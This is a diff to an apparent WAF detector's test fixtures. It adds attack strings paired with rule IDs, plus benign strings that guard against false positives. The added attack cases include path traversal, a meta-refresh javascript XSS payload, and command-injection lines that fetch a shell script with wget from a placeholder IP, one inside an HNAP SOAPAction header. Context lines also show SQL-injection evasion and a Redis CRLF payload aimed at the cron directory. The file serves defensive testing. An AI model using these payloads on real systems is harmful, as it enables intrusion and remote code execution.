@@ -681,6 +681,20 @@ export const ATTACKS: DetectorCase[] = [
     "5 UNIunionON SELselectECT 1,2,3 FRfromOM users",
     "942130",
   ),
+  j("an absolute path climbing back over its prefix in a bulk operation", "/Users/../Groups/admins", "930110"),
+  q("an API path climbing from a public prefix to an admin one", "/api/public/../admin/keys", "930110"),
+  j(
+    "a refresh to script through a meta element",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "941130",
+  ),
+  q("a command substitution inside double quotes", '"a $(wget http://203.0.113.50/x.sh)"', "932130"),
+  {
+    name: "backticks inside a quoted SOAPAction (HNAP)",
+    where: "header",
+    value: '"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget http://203.0.113.50/x.sh`"',
+    hit: ["932130"],
+  },
   j(
     "Redis commands after a line break in a URL to fetch",
     "http://redis.internal:6379/\r\nCONFIG SET dir /var/spool/cron\r\n",
@@ -1201,6 +1215,11 @@ export const BENIGN: DetectorCase[] = [
     "apostrophes that pair across a quoted name",
     "Customer's dog (called 'Select') kept getting out -- door. Left card for Mrs O'Donoghue.",
   ),
+  j(
+    "an e-mail template's charset and viewport",
+    '<meta charset="utf-8"><meta name="viewport" content="width=device-width">',
+  ),
+  q("a password with a quote, a bang and a hash", "Winter'24!Boiler#Room"),
   j(
     "a link, then a sentence about configuration",
     "https://example.com/page\nThe config set up is broken, please flush all caches",
